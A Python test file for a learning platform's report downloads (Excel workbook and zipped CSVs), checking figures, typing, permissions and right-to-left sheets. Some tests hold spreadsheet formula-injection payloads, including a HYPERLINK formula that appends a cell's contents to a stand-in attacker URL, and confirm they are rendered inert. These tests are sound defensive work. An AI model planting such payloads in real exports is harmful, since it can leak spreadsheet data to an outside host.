"""A report's downloads: one workbook and one zip of CSV files with everything the dashboard shows, typed cells,
the page's published figures and nothing else, text typed by users inert, sheets right to left in Arabic."""
from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lms.extensions import db
from lms.files.workbooks import COUNT, SHARE, USER_TEXT, Column, Cover, Section, as_xlsx, as_zip, sheet_names
from lms.models import SurveyAnswer, SurveyQuestion, SurveyResponse
from lms.reports.workbook import SECTIONS
from lms.surveys import building
from lms.surveys.building import QuestionSpec
from tests.helpers import YEAR, sign_in
from tests.reports import reading
from tests.reports.helpers import count_queries, course

EVIL = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
COUNT_FORMAT = "#,##0"
FORBIDDEN = set('[]:*?/\\')


def answered(population, survey, rng: random.Random) -> None:
    """Published answers to the survey's safety scale and hours, from 60% of the people, in each wave."""
    questions = {q.code: q for q in db.session.scalars(select(SurveyQuestion).where(
        SurveyQuestion.version_id == survey.published_version.id))}
    for wave in survey.waves:
        for user, enrolled, _completed in population:
            if rng.random() < 0.6:
                response = SurveyResponse(wave_id=wave.id, version_id=survey.published_version.id, language="en",
                                          country=user.country, submitted_on=enrolled.date(),
                                          pseudonym=f"person-{user.id}")
                db.session.add(response)
                db.session.flush()
                safe, hours = rng.randint(1, 5), float(rng.randint(20, 70))
                db.session.add_all([
                    SurveyAnswer(response_id=response.id, question_id=questions["safe"].id, value=str(safe),
                                 number=float(safe)),
                    SurveyAnswer(response_id=response.id, question_id=questions["hours"].id, value=str(hours),
                                 number=hours),
                    SurveyAnswer(response_id=response.id, question_id=questions["voice"].id,
                                 value=rng.choice(["never", "sometimes", "often"]))])
    db.session.commit()


@pytest.fixture
def surveyed(population, make_survey, create_user):
    """The population answering a survey asked of everyone taking the course, before and after."""
    survey = make_survey(code="voice", privacy="identified", course=course(), waves=["baseline", "endline"])
    answered(population, survey, random.Random(7))
    create_user("admin", role="admin")
    return survey


def admin(app):
    client = app.test_client()
    sign_in(client, "admin")
    return client


def test_the_workbook_holds_every_table_of_the_page_typed_and_as_published(app, surveyed):
    client = admin(app)
    query = f"year={YEAR}"
    page = client.get(f"/reports?{query}").get_data(as_text=True)
    assert f'href="/reports/report.xlsx?{query}"' in page and f'href="/reports/report.zip?{query}"' in page
    assert "/reports/by_country.csv" not in page  # two downloads, not one per table
    response = client.get(f"/reports/report.xlsx?{query}")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f"report-{YEAR}0101-{YEAR}1231.xlsx" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.get_data()))
    names = book.sheetnames
    assert len(names) == len({n.casefold() for n in names}) == 1 + len(SECTIONS)  # the cover, then each table
    assert all(len(n) <= 31 and not FORBIDDEN & set(n) for n in names)

    cover = {row[0]: row[1:] for row in book.worksheets[0].iter_rows(values_only=True) if row[0]}
    assert cover["Period"][:2] == (datetime(YEAR, 1, 1), datetime(YEAR, 12, 31))
    assert isinstance(cover["Generated (UTC)"][0], datetime)
    assert "multiple of 5" in cover["Privacy"][0] and "fewer than 10" in cover["Empty cells"][0]

    counts = 0
    for sheet in book.worksheets[1:]:
        assert sheet.sheet_view.rightToLeft in (None, False)
        header = [cell.value for cell in sheet[2]]
        assert all(isinstance(title, str) for title in header)
        for row in sheet.iter_rows(min_row=3):
            for cell in row:
                if cell.number_format == COUNT_FORMAT:  # every count is a published one: a multiple of 5
                    assert isinstance(cell.value, int) and cell.value % 5 == 0, (sheet.title, cell.coordinate)
                    counts += 1
                elif cell.number_format == "0%":
                    assert isinstance(cell.value, float | int) and 0 <= cell.value <= 1
                if not header[cell.column - 1].lower().endswith("code"):  # no figure written as text
                    assert not (isinstance(cell.value, str) and re.fullmatch(r"\d+", cell.value)), cell.coordinate
    assert counts > 100

    tables = reading.workbook_tables(response.get_data())
    months = tables["Enrolments and completions by month"]
    assert [type(row[0]) for row in months[2:]] == [datetime] * 12 + [str]
    assert book["By month"]["A3"].number_format == "mmm yyyy" and months[2][0] == datetime(YEAR, 1, 1)

    # The same figures as the page, table by table: counts, rates (0.47 for "47%"), "–" for an empty cell.
    on_page = reading.report_tables(page)
    for name, first in (("Participants by country and gender", "Country"), ("Participants by age and gender", "Age"),
                        ("Enrolments and completions by country", "Country"),
                        ("Enrolments and completions by month", "Month"),
                        ("Enrolments and completions by quarter", "Quarter")):
        table = reading_id(name)
        shown = {(row, column): value for (t, row, column), value in on_page.items() if t == table}
        assert shown, name
        downloaded = reading.download_table(tables[name], first)
        for (row, column), value in shown.items():
            assert downloaded[(row, column)] == (value.rstrip("%") if "rate" in column.lower()
                                                 else value.replace(",", "")), (table, row, column)

    gain = tables["Knowledge gain"]
    assert gain[2][0] == reading.number(reading.gain(page)["People"])

    # The outcome indicators as the dashboard shows them, per wave.
    indicators = tables["Outcome indicators"]
    header = indicators[1]
    shown = reading.indicator_tables(page)
    assert len(indicators) > 2
    for row in indicators[2:]:
        line = dict(zip(header, row, strict=True))
        people = [v for (_s, title, _c, wave, column), v in shown.items()
                  if title.startswith(line["Title"]) and wave.startswith(line["Wave"]) and column == "People"]
        assert people and reading.number(people[0]) == line["People"]
        values = [v for (_s, title, _c, wave, column), v in shown.items()
                  if title.startswith(line["Title"]) and wave.startswith(line["Wave"]) and column in ("Share", "Mean")]
        value = line["Share or mean"]
        if values[0] == "–":
            assert value is None
        elif values[0].endswith("%"):
            assert round(100 * value) == int(values[0].rstrip("%"))
        else:
            assert f"{value:.1f}" == values[0]

    # Survey answers per question, as the survey's results page publishes them.
    results = client.get(f"/surveys/manage/{surveyed.code}/results").get_data(as_text=True)
    responses = {(row[2], row[5]) for row in tables["Responses"][2:]}
    on_results = reading.response_counts(results)
    assert on_results and all(any(n == count for _wave, count in responses) for n in on_results.values())
    answers = tables["Answers"]
    voice = [row for row in answers[2:] if row[4] == "voice"]
    assert {row[7] for row in voice} == {"never", "sometimes", "often"}
    assert all(row[9] % 5 == 0 and (row[10] is None or 0 <= row[10] <= 1) for row in voice)
    assert not any(row[4] == "comment" and row[7] for row in answers[2:])  # free text stays on the results page
    means = tables["Means"]
    assert {row[4] for row in means[2:]} == {"hours"}


def reading_id(title: str) -> str:
    """The id of the page's table with this title."""
    from lms.reports.exports import TITLES

    return next(key for key, value in TITLES.items() if str(value) == title)


def test_the_zip_holds_the_same_tables_as_csv_files_and_the_cover(app, surveyed):
    client = admin(app)
    response = client.get(f"/reports/report.zip?year={YEAR}&gender=woman")
    assert response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    names = archive.namelist()
    assert names[:2] == ["00-about.csv", "01-participants-by-country.csv"] and len(names) == 1 + len(SECTIONS)
    assert all(archive.read(name).startswith("\ufeff".encode()) for name in names)  # UTF-8 with a BOM
    tables = reading.zip_tables(response.get_data())
    cover = tables["Report"]
    assert ["Period", f"{YEAR}-01-01", f"{YEAR}-12-31"] in cover and ["Gender", "Woman"] in cover
    assert any(row and row[0] == "Generated (UTC)" and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row[1])
               for row in cover)
    months = tables["Enrolments and completions by month"]
    assert [row[0] for row in months[2:5]] == [f"{YEAR}-01", f"{YEAR}-02", f"{YEAR}-03"]
    book = reading.workbook_tables(client.get(f"/reports/report.xlsx?year={YEAR}&gender=woman").get_data())
    for title, rows in tables.items():
        if title == "Report":
            continue
        assert len(rows) == len(book[title]), title
        for got, typed in zip(rows[2:], book[title][2:], strict=True):
            for text, value, column in zip(got, typed, rows[1], strict=True):
                if value is None:
                    assert text == ""
                elif isinstance(value, int | float):  # a share in whole percent, other numbers as they are
                    percent = column.endswith("(%)") or text.endswith("%")
                    assert float(text.rstrip("%")) == (round(100 * value) if percent else value), (title, column)


def test_arabic_sheets_read_right_to_left(app, surveyed):
    client = admin(app)
    book = load_workbook(io.BytesIO(client.get(f"/reports/report.xlsx?year={YEAR}&lang=ar").get_data()))
    assert all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)
    french = load_workbook(io.BytesIO(client.get(f"/reports/report.xlsx?year={YEAR}&lang=fr").get_data()))
    assert not any(sheet.sheet_view.rightToLeft for sheet in french.worksheets)


def test_the_downloads_are_for_coordinators_and_admins_and_ended_periods(app, surveyed, create_user):
    client = admin(app)
    assert client.get(f"/reports/report.csv?year={YEAR}").status_code == 404
    assert client.get("/reports/report.xlsx?year=1900").status_code == 400
    assert client.get(f"/reports/report.zip?year={YEAR + 50}").status_code in (400, 404)
    for role in ("participant", "trainer"):
        create_user(f"x-{role}", role=role)
        other = app.test_client()
        sign_in(other, f"x-{role}")
        assert other.get(f"/reports/report.xlsx?year={YEAR}").status_code == 403


def test_more_questions_take_no_more_queries(app, surveyed, still_clock):
    """The answers of every question come from a few grouped queries per survey, never one per question."""
    client = admin(app)
    url = f"/reports/report.xlsx?year={YEAR}"
    client.get(url)  # warm up
    before = count_queries(app, client, url)
    for i in range(6):
        building.add_question(surveyed, QuestionSpec(code=f"extra{i}", kind="single", label=f"Extra {i}?",
                                                     choices=[("a", "A"), ("b", "B")]))
    building.publish(surveyed)
    db.session.commit()
    after = count_queries(app, client, url)
    tables = reading.workbook_tables(client.get(url).get_data())
    assert {row[4] for row in tables["Answers"][2:]} >= {f"extra{i}" for i in range(6)}
    assert after == before


def evil_section() -> Section:
    return Section("groups", "Groups", "Groups", [Column("Group", USER_TEXT), Column("People", COUNT),
                                                   Column("Rate", SHARE)],
                   [[name, 10, 0.5] for name in EVIL] + [["Peru", 15, None]])


def evil_cover() -> Cover:
    return Cover(EVIL[0], [("Group", [EVIL[4]])], datetime(YEAR, 1, 2, 3, 4))


def test_csv_cells_that_look_like_formulas_are_text(app_ctx):
    archive = zipfile.ZipFile(as_zip(evil_cover(), [evil_section()]))
    rows = [row for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
    assert "'" + EVIL[0] in cells and ["Peru", "15", ""] in rows and ["'+1+1", "10", "50"] in rows
    assert ["Group", "People", "Rate (%)"] in rows


def test_xlsx_cells_that_look_like_formulas_are_text(app_ctx):
    book = load_workbook(as_xlsx(evil_cover(), [evil_section()]))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + EVIL[0] in [cell.value for cell in cells]
    assert 15 in [cell.value for cell in cells]


def test_csv_cells_split_by_a_semicolon_or_comma_locale_hold_no_formula(app_ctx):
    """Excel set to split on ";" (or ",", or a tab) cuts a cell there: no piece may start a formula."""
    names = ['Lima 2027;=HYPERLINK("http://evil.example/?"&A3;"Click")', "a,+1+1", "b\t-2+3", "c;@SUM(A1)",
             "d\n=1", "e; =2"]
    section = Section("groups", "Groups", "Groups", [Column("Group", USER_TEXT), Column("n", COUNT)],
                      [[name, 7] for name in names])
    archive = zipfile.ZipFile(as_zip(evil_cover(), [section]))
    data = archive.read("01-groups.csv").decode("utf-8-sig")
    for delimiter in (";", ",", "\t"):
        cells = [cell for row in csv.reader(io.StringIO(data), delimiter=delimiter) for cell in row]
        pieces = [piece for cell in cells for piece in cell.replace("\n", ";").split(";")]
        assert not any(piece.strip('" ').startswith(("=", "+", "-", "@")) for piece in pieces), (delimiter, pieces)
    assert [name for row in csv.reader(io.StringIO(data)) for name in row if name.startswith("Lima")][0] == (
        "Lima 2027;'=HYPERLINK(\"http://evil.example/?\"&A3;\"Click\")")


def test_sheet_names_are_short_different_and_hold_no_character_excel_refuses(app_ctx):
    sections = [Section("a", name, "t", []) for name in (
        "Participants by country: women/men [all]", "Participants by country: women/men [all]", "About*", "'Q?'",
        "x" * 40)]
    names = sheet_names(sections, "About")
    assert len({n.casefold() for n in names}) == len(names) == 6
    assert all(len(n) <= 31 and not FORBIDDEN & set(n) and not n.startswith("'") for n in names)
